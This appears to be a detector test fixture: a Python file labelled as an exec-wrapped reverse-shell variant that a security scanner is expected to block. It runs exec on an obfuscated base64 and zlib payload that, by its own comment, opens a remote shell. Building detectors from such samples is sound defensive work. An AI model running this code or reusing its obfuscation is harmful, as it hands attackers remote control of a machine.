# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/bash_dev_tcp.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJw9zE0KgzAQhuF9TvFhwbTQ5qfarWfwClanRDCNzAyCt2+L0Hf1rp4TnoMkK/ATbV7HFUwbsRAk0bJcITqw0oQXl4x+11Tezsx5LawoYkwRJ7so5XP1k3AbYY+Z0dV/1t9D44KLsXEP335D6Opoq8sH+KwnhA==')))
